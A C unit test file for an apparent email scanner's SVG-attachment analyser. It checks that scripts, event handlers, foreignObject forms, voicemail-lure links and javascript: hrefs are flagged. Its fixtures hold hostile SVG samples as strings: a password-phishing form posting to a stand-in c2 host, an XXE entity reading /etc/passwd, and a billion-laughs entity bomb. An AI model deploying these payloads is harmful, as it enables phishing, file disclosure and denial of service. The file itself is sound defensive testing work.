/* ks_svg_scan and the SVG row of the attachment walk: scripts, event
 * handlers, HTML in a foreignObject, links and animated javascript: hrefs
 * raise attachment.svg_active; a plain drawing raises nothing; entities
 * are never expanded nor fetched. */
#include "testlib.h"

#include "payloads/svg.h"

static ks_svg *scan_str(const char *s)
{
	return ks_svg_scan(s, strlen(s));
}

static void scripts_handlers_and_remote_sources(void **state)
{
	(void)state;
	g_autoptr(ks_svg) s = scan_str(
		"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" "
		"xmlns:xlink=\"http://www.w3.org/1999/xlink\" onload=\"go()\">"
		"<script type=\"text/javascript\"><![CDATA[function go(){window.location='https://x.example/'}]]>"
		"</script><script xlink:href=\"https://cdn.kit.example/a.js\"/>"
		"<rect width=\"10\" height=\"10\" onclick=\"go()\"/></svg>");
	assert_true(s->parsed);
	assert_int_equal(s->scripts, 2);
	assert_int_equal(s->script_urls->len, 1);
	assert_string_equal(g_ptr_array_index(s->script_urls, 0), "https://cdn.kit.example/a.js");
	assert_int_equal(s->handlers->len, 2);
	assert_string_equal(g_ptr_array_index(s->handlers, 0), "onload");
}

static void foreign_object_html_and_links(void **state)
{
	(void)state;
	g_autoptr(ks_svg) s = scan_str(
		"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"
		"<foreignObject width=\"400\" height=\"300\"><body xmlns=\"http://www.w3.org/1999/xhtml\">"
		"<form action=\"https://c2.example/p\"><input type=\"password\"/></form></body></foreignObject>"
		"<a xlink:href=\"https://voicemail-play.example/m?id=7\"><text x=\"5\" y=\"20\">"
		"  Play   voicemail </text></a><a href=\"#top\"><text>top</text></a>"
		"<set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>");
	assert_true(s->parsed);
	assert_int_equal(s->foreign_objects, 1);
	assert_int_equal(s->foreign_html->len, 2);
	assert_string_equal(g_ptr_array_index(s->foreign_html, 0), "form");
	assert_int_equal(s->links->len, 2);
	const ks_link *l = g_ptr_array_index(s->links, 0);
	assert_string_equal(l->href, "https://voicemail-play.example/m?id=7");
	assert_string_equal(l->text, "Play voicemail");
	assert_int_equal(s->handlers->len, 1);
}

static void entities_are_never_expanded_nor_fetched(void **state)
{
	(void)state;
	g_autoptr(ks_svg) xxe = scan_str(
		"<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
		"<svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\"&x;\"><text>&x;</text></a></svg>");
	assert_true(xxe->parsed);
	for (guint i = 0; i < xxe->links->len; i++)
		assert_null(strstr(((ks_link *)g_ptr_array_index(xxe->links, i))->text, "root:"));
	GString *lol = g_string_new("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a \"aaaaaaaaaa\">");
	for (int i = 1; i < 10; i++)
		g_string_append_printf(lol, "<!ENTITY %c \"&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;\">",
		                       'a' + i, 'a' + i - 1, 'a' + i - 1, 'a' + i - 1, 'a' + i - 1,
		                       'a' + i - 1, 'a' + i - 1, 'a' + i - 1, 'a' + i - 1, 'a' + i - 1,
		                       'a' + i - 1);
	g_string_append(lol, "]><svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\"https://x.example/\">"
	                     "<text>&j;</text></a></svg>");
	g_autoptr(ks_svg) bomb = ks_svg_scan(lol->str, lol->len);
	g_string_free(lol, TRUE);
	assert_true(bomb->links->len <= 1);
}

static void plain_drawings_and_other_xml(void **state)
{
	(void)state;
	g_autoptr(ks_svg) logo = scan_str(
		"<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\"><title>Logo</title>"
		"<path d=\"M0 0L10 10\" fill=\"#c00\"/><use href=\"#p\"/></svg>");
	assert_true(logo->parsed);
	assert_int_equal(logo->scripts + logo->handlers->len + logo->links->len, 0);
	g_autoptr(ks_svg) other = scan_str("<rss><channel><title>x</title></channel></rss>");
	assert_false(other->parsed);
	g_autoptr(ks_svg) junk = ks_svg_scan("\x00\xff<svg", 6);
	assert_non_null(junk);
	g_autoptr(ks_svg) none = ks_svg_scan(NULL, 0);
	assert_false(none->parsed);
}

static ks_report *walk_svg(const char *svg, const char *name)
{
	g_autoptr(GBytes) b = g_bytes_new(svg, strlen(svg));
	ks_message *m = msg_with_attachment("image/svg+xml", name, b);
	ks_report *r = ks_report_new();
	ks_attachments_walk(m, NULL, r, ks_analyze_message);
	msg_free(m);
	return r;
}

static void walk_raises_by_what_the_image_does(void **state)
{
	(void)state;
	g_autoptr(ks_report) link_only = walk_svg(
		"<svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\"https://vm.example/listen\">"
		"<rect width=\"200\" height=\"50\"/><text>Listen</text></a></svg>",
		"Voicemail_0114.svg");
	const ks_finding *f = sole_finding(link_only, KS_RULE_ATTACHMENT_SVG_ACTIVE);
	assert_non_null(f);
	assert_int_equal(f->severity, KS_SEV_MEDIUM);
	assert_string_equal(f->location, "part:2");
	assert_contains(f->evidence, "Voicemail_0114.svg: links to https://vm.example/listen");
	bool joined = false;
	for (guint i = 0; i < link_only->links->len; i++) {
		const ks_link *l = g_ptr_array_index(link_only->links, i);
		joined = joined || (g_strcmp0(l->location, "part:2") == 0 &&
		                    strcmp(l->href, "https://vm.example/listen") == 0);
	}
	assert_true(joined);

	g_autoptr(ks_report) script = walk_svg(
		"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"location.href='https://x.example/'\">"
		"<circle r=\"4\"/></svg>",
		"scan.svg");
	f = sole_finding(script, KS_RULE_ATTACHMENT_SVG_ACTIVE);
	assert_int_equal(f->severity, KS_SEV_HIGH);
	assert_contains(f->evidence, "event handlers onload");

	g_autoptr(ks_report) logo = walk_svg(
		"<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0h4v4z\"/></svg>", "logo.svg");
	assert_null(find_rule(logo, KS_RULE_ATTACHMENT_SVG_ACTIVE));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(scripts_handlers_and_remote_sources),
		cmocka_unit_test(foreign_object_html_and_links),
		cmocka_unit_test(entities_are_never_expanded_nor_fetched),
		cmocka_unit_test(plain_drawings_and_other_xml),
		cmocka_unit_test(walk_raises_by_what_the_image_does),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
